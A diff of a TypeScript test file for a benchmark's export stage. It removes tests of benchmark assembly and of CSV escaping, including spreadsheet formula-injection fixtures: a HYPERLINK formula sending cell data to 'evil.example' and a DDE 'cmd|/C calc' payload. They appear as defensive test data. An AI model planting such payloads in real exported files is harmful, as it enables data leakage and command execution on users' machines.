@@ -1,10 +1,8 @@
 import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import {
-  checkSchema,
   formatJson,
   type Benchmark,
   type Instance,
@@ -12,12 +10,7 @@ import {
   type Labels,
   type VerificationReport,
 } from '@junobench/core';
-import {
-  BENCHMARK_CSV_COLUMNS,
-  assembleBenchmark,
-  createBenchmarkStage,
-  formatBenchmarkCsv,
-} from './stage-benchmark.js';
+import { createBenchmarkStage } from './stage-benchmark.js';
 
 const labels: Labels = {
   library: 'pandas',
@@ -69,77 +62,6 @@ const report: VerificationReport = {
   summary: { total: 3, verified: 1, notVerified: 1, skipped: 1, flaky: 0 },
   instances: [verdict('a', 'verified'), verdict('b', 'not-verified'), verdict('c', 'skipped')],
 };
-
-describe('assembleBenchmark', () => {
-  const b = assembleBenchmark(
-    [instance('a'), instance('b'), instance('c')],
-    report,
-    { a: labels, b: labels, c: labels },
-    { name: 'JunoBench' },
-  );
-
-  it('lists verified instances and skipped ones (with the reason), never failing ones', () => {
-    expect(b.instances.map((e) => [e.id, e.verification.status])).toEqual([
-      ['a', 'verified'],
-      ['c', 'skipped'],
-    ]);
-    expect(b.instances[1]!.verification.reason).toContain('tensorflow');
-    expect(checkSchema('benchmark', b)).toEqual([]);
-  });
-
-  it('requires final labels for every included instance', () => {
-    expect(() => assembleBenchmark([instance('a')], report, {}, { name: 'x' })).toThrow(
-      /no final labels for instance a/,
-    );
-  });
-
-  it('writes a CSV with a header and quoted fields', () => {
-    const csv = formatBenchmarkCsv(b);
-    const lines = csv.trimEnd().split('\n');
-    expect(lines[0]).toMatch(/^id,platform,notebook_url,datasets,dataset_licenses/);
-    expect(lines).toHaveLength(3);
-    expect(lines[1]).toContain('"column renamed, ""price"" gone"');
-  });
-});
-
-describe('benchmark.csv is safe to open in a spreadsheet', () => {
-  const hostile = {
-    ...instance('f'),
-    crash: {
-      ename: 'ValueError',
-      evalue: '=HYPERLINK("http://evil.example/?"&A1,"click")',
-      match: 'exact' as const,
-      cell: 3,
-    },
-    source: {
-      platform: 'kaggle' as const,
-      datasets: [{ title: '@SUM(1+1)*cmd|/C calc!A0', license: '+CC0', url: 'https://k/d' }],
-    },
-  };
-  const b = assembleBenchmark(
-    [hostile],
-    { ...report, instances: [verdict('f', 'verified')] },
-    { f: { ...labels, diagnosis: '-2+3 then\ttab' } },
-    { name: 'JunoBench' },
-  );
-
-  it('neutralises cells beginning with = + - @ tab CR (read back with a CSV parser), while the JSON keeps the exact text', () => {
-    const rows = parse(formatBenchmarkCsv(b), { columns: true }) as Record<
-      (typeof BENCHMARK_CSV_COLUMNS)[number],
-      string
-    >[];
-    expect(rows[0]).toMatchObject({
-      crash_evalue: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
-      datasets: `'@SUM(1+1)*cmd|/C calc!A0`,
-      dataset_licenses: `'+CC0`,
-      diagnosis: `'-2+3 then\ttab`,
-      id: 'f',
-    });
-    for (const cell of Object.values(rows[0]!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-    expect(b.instances[0]!.crash.evalue).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
-    expect(b.instances[0]!.labels.diagnosis).toBe('-2+3 then\ttab');
-  });
-});
 
 describe('credentials in URLs are not published', () => {
   const secretUrl =
